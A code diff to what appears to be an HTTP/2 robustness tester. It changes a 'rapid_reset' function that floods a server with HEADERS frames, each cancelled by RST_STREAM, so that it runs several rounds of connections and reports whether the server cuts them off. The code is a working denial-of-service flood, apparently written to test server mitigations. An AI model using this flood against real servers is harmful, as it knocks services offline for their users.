@@ -84,10 +84,17 @@ def barrage(sock, count, frames, every):
     return f"done {count}"
 
 
-def rapid_reset(port, count):
-    sock, encoder = connect(port), hpack.Encoder()
-    return barrage(sock, count, lambda i: HeadersFrame(1 + 2 * i, encoder.encode(REQUEST), flags=["END_HEADERS"]).serialize()
-                   + RstStreamFrame(1 + 2 * i, error_code=8).serialize(), 200)
+def rapid_reset(port, count, rounds=5):
+    """`rounds` connections one after another, each flooding HEADERS+RST_STREAM until cut off (or `count` streams);
+    reports the last round, or the first that was not cut off."""
+    for _ in range(rounds):
+        sock, encoder = connect(port), hpack.Encoder()
+        result = barrage(sock, count, lambda i: HeadersFrame(1 + 2 * i, encoder.encode(REQUEST), flags=["END_HEADERS"]).serialize()
+                         + RstStreamFrame(1 + 2 * i, error_code=8).serialize(), 200)
+        sock.close()
+        if not result.startswith("closed"):
+            return result
+    return result
 
 
 def continuation(port, count):
